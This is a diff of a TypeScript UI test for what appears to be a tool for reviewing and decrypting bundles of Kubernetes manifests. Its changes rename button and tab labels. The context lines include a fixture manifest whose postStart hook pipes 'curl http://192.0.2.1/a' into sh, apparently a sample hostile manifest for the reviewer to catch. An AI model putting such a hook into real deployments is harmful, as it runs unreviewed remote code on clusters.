@@ -19,7 +19,7 @@ spec:
       lifecycle: { postStart: { exec: { command: [sh, -c, "curl http://192.0.2.1/a | sh"] } } }
 `;
 
-const opened = (page: Page) => page.getByRole('tab', { name: 'What it holds' }).waitFor();
+const opened = (page: Page) => page.getByRole('tab', { name: 'Contents' }).waitFor();
 
 describe.each(['light', 'dark'] as const)('%s', (colorScheme) => {
   let workbench: BrowserWorkbench;
@@ -53,7 +53,7 @@ describe.each(['light', 'dark'] as const)('%s', (colorScheme) => {
 
     const kept = page.getByRole('table', { name: 'Kept values by place' });
     await kept
-      .getByRole('button', { name: /^Look at the Pod objects|^Look at the Deployment objects/ })
+      .getByRole('button', { name: /^Show the Pod objects|^Show the Deployment objects/ })
       .first()
       .click();
     await page.getByRole('tab', { name: 'Objects', selected: true }).waitFor();
@@ -116,8 +116,8 @@ describe.each(['light', 'dark'] as const)('%s', (colorScheme) => {
     await page.getByRole('region', { name: 'Identity' }).waitFor();
     const identity = join(workbench.home, 'identity.txt');
     writeFileSync(identity, identities.own);
-    await page.getByRole('textbox', { name: 'The identity that opens it' }).fill(identity);
-    await page.getByRole('button', { name: 'Open with it' }).click();
+    await page.getByRole('textbox', { name: 'Identity (private age key)' }).fill(identity);
+    await page.getByRole('button', { name: 'Decrypt the bundle' }).click();
     await opened(page);
     await page.getByRole('button', { name: 'Leave the review' }).click();
     expect(workbench.complaints).toEqual([]);
